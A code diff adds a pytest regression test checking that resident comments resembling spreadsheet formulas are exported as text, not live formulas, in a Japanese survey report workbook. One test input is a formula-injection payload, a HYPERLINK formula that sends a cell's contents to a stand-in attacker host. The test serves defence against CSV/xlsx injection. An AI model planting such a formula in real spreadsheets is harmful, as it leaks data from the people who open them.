@@ -284,6 +284,18 @@ def test_workbook_sheets_add_up(session, surveyed):
             assert sum(v for v in row[2:] if v is not None) == pytest.approx(1.0), name
 
 
+def test_a_comment_that_looks_like_a_formula_stays_text_in_the_workbook(session, surveyed):
+    """A resident's 「=HYPERLINK(…)」 became a live formula in the 自由意見 sheet (openpyxl's default)."""
+    typed = ['=HYPERLINK("https://evil.example/?c="&D2,"詳しくはこちら")', "=1+2\x01", "@SUM(A1)"]
+    responses.bulk_complete(session, surveyed, [{**FOREIGN, "_locale": "ja", "comment": t} for t in typed],
+                            channel="web")
+    book = load_workbook(io.BytesIO(render(build_report(session, surveyed, "none", "ja"), "xlsx")))
+    cells = [cell for row in book["自由意見"].iter_rows(min_row=3) for cell in row if isinstance(cell.value, str)]
+    found = {cell.value: cell.data_type for cell in cells if cell.value.startswith(("=", "@"))}
+    assert found == {typed[0]: "s", "=1+2": "s", "@SUM(A1)": "s"}  # text, and the control character dropped
+    assert all(cell.data_type != "f" for sheet in book for row in sheet.iter_rows() for cell in row)
+
+
 def test_raw_export_weights_reproduce_the_headline_figure(session, surveyed):
     from analysis.frame import frame_from_database
 
